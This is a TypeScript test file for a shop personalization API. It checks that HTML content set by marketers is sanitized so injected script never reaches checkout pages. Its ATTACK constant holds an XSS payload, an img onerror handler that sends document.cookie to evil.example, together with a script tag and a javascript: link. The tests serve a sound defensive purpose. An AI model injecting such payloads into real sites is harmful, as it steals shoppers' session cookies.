// Attack: marketer HTML (written by anyone holding the secret key or a session, or pasted from an
// agency) carries script into the shop's pages, checkout included: `<img onerror>` runs as soon as
// the SDK inserts it. Decide must never serve active HTML to a site that has not allowed scripts.
import { env } from 'cloudflare:test'
import type { DecideResponse } from '@stammis/contract'
import { describe, expect, it } from 'vitest'
import { createTestSite, postJson, publishRules, type TestSite } from '../helpers'

const ATTACK =
  '<b>Welcome back</b><img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">' +
  '<script>alert(1)</script><a href="javascript:alert(2)">Shop now</a>'

async function servedHtml(site: TestSite): Promise<string> {
  const response = await postJson('/v1/decide', {
    site: site.publicKey,
    visitorId: 'victim',
    visitId: 'v1',
    slots: ['hero'],
  })
  expect(response.status).toBe(200)
  const { decisions } = (await response.json()) as DecideResponse
  expect(decisions.hero?.content?.type).toBe('html')
  return String(decisions.hero?.content?.value)
}

function expectInert(html: string): void {
  expect(html).not.toMatch(/onerror/i)
  expect(html).not.toMatch(/<script/i)
  expect(html).not.toMatch(/javascript:/i)
  // The harmless part of the content still shows.
  expect(html).toContain('<b>Welcome back</b>')
}

describe('abuse: <img onerror> in html content', () => {
  it('is not served when published through the API', async () => {
    const site = await createTestSite()
    await publishRules(site, [
      { id: 'hero', slot: 'hero', status: 'live', content: { type: 'html', value: ATTACK } },
    ])
    expectInert(await servedHtml(site))
  })

  it('is not served from a rule set stored before sanitizing existed', async () => {
    const site = await createTestSite()
    const rules = [
      {
        id: 'old',
        slot: 'hero',
        priority: 0,
        status: 'live',
        when: {},
        holdoutPercent: 0,
        content: { type: 'html', value: ATTACK },
      },
    ]
    await env.DB.prepare(
      'INSERT INTO rulesets (site_id, version, rules, published_at) VALUES (?1, 1, ?2, 0)',
    )
      .bind(site.siteId, JSON.stringify(rules))
      .run()
    expectInert(await servedHtml(site))
  })
})
